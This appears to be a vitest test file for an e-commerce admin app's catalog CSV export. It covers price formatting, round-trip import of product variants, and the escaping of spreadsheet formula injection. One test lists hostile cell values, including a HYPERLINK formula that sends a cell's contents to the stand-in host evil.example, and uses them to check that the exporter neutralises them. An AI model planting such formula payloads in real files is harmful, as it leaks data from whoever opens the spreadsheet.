import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { catalogCsvColumns } from "../../../../worker/schemas/catalog-csv-columns.ts";
import { catalogCsvLine, cellsOf } from "../../../../worker/schemas/catalog-import.ts";
import { ApiError } from "../../lib/http.ts";
import { toCsv } from "../lib/csv.ts";
import type { AdminProduct } from "../lib/types.ts";
import { catalogLines, csvAmount, lineErrors } from "./catalog-csv.ts";

const variant = (fields: Partial<AdminProduct["variants"][number]>): AdminProduct["variants"][number] => ({
  id: crypto.randomUUID(),
  sku: "TEE-M-BLUE",
  title: "M / Blue",
  options: {},
  price: 4990,
  oldPrice: null,
  discount: 0,
  shippingAmount: 0,
  actualPrice: 4990,
  stockQty: 3,
  inStock: true,
  active: true,
  lowStockThreshold: 5,
  position: 0,
  weightGrams: 0,
  taxClassId: "t1",
  ...fields,
});

const tee = {
  id: crypto.randomUUID(),
  slug: "royal-tee",
  name: 'Royal tee, "classic"',
  description: "Soft cotton.\nTwo lines.",
  categoryId: "c1",
  brandId: null,
  active: false,
  options: [
    { name: "Size", values: ["M", "L"] },
    { name: "Colour", values: ["Blue"] },
  ],
  variants: [
    variant({ sku: "TEE-L-BLUE", options: { Colour: "Blue", Size: "L" }, price: 5000, oldPrice: 6005, position: 1 }),
    variant({ options: { Size: "M", Colour: "Blue" }, discount: 90, shippingAmount: 150, active: false }),
  ],
} as unknown as AdminProduct;

describe("the catalog file the admin app exports", () => {
  it("writes money in currency units with two decimals", () => {
    expect([0, 5, 90, 4990, 100_000_000_000].map(csvAmount)).toEqual([
      "0.00",
      "0.05",
      "0.90",
      "49.90",
      "1000000000.00",
    ]);
    expect(csvAmount(null)).toBe("");
  });

  it("writes one line per variant, in position order, that the import reads back as the same catalog", () => {
    const lines = catalogLines([tee], [{ id: "c1", slug: "fashion", name: "Fashion", parentId: null }], []);
    expect(lines.map((l) => [l.sku, l.options, l.price, l.variantActive])).toEqual([
      ["TEE-M-BLUE", "Size=M; Colour=Blue", "49.90", "false"],
      ["TEE-L-BLUE", "Size=L; Colour=Blue", "50.00", "true"],
    ]);
    const csv = toCsv(lines, [...catalogCsvColumns]);
    const parsed = Papa.parse<Record<string, string>>(`\uFEFF${csv}`, { header: true, skipEmptyLines: "greedy" });
    expect(parsed.meta.fields).toEqual([...catalogCsvColumns]);
    const read = parsed.data.map((record) => catalogCsvLine.parse(cellsOf(record)));
    expect(read[0]).toMatchObject({
      slug: "royal-tee",
      name: 'Royal tee, "classic"',
      description: "Soft cotton.\nTwo lines.",
      category: "fashion",
      brand: undefined,
      active: false,
      sku: "TEE-M-BLUE",
      options: { Size: "M", Colour: "Blue" },
      price: 4990,
      oldPrice: undefined,
      discount: 90,
      shippingAmount: 150,
      stockQty: 3,
      lowStockThreshold: 5,
      variantActive: false,
    });
    expect(read[1]).toMatchObject({ sku: "TEE-L-BLUE", price: 5000, oldPrice: 6005, variantActive: true });
  });

  it("escapes cells a spreadsheet would run as formulas, and the import reads them back as they were", () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
      "+1+1",
      "-2+3",
      "@SUM(A1:A2)",
      "\t=1+1",
      "\r=1+1",
      "'=already quoted",
      "''@twice",
      "Plain name",
      "a = b, not a formula",
      "  =1+1 after spaces",
      "\uFF1D1+1 full-width",
    ];
    const lines = hostile.map((name, i) => ({
      ...catalogLines([tee], [], [])[0],
      sku: `SKU-${i}`,
      name,
      description: name,
    }));
    const csv = toCsv(lines, [...catalogCsvColumns]);
    const cells = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    // As a spreadsheet reads the file: no cell begins with a formula's first character.
    for (const row of cells) {
      for (const value of Object.values(row)) expect(value).not.toMatch(/^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
    expect(cells[0].name).toBe(`'${hostile[0]}`);
    expect(cells[8].name).toBe("Plain name");
    expect(cells[6].name).toBe("''=already quoted");
    // As the import reads it: exactly what was exported (the import trims, so the tab and CR lines keep their "=1+1").
    const read = cells.map((record) => catalogCsvLine.parse(cellsOf(record)));
    expect(read.map((line) => line.name)).toEqual(hostile.map((name) => name.trim()));
    expect(read.map((line) => line.description)).toEqual(hostile.map((name) => name.trim()));
  });

  it("tells a refusal by line from any other failure", () => {
    const details = [{ line: 3, column: "price", message: "an amount such as 49.90" }];
    expect(lineErrors(new ApiError(400, "invalid_request", "1 error", details))).toEqual(details);
    expect(lineErrors(new ApiError(400, "invalid_request", "bad", [{ path: "csv", message: "empty" }]))).toBeNull();
    expect(lineErrors(new ApiError(503, "unavailable", "down"))).toBeNull();
  });
});
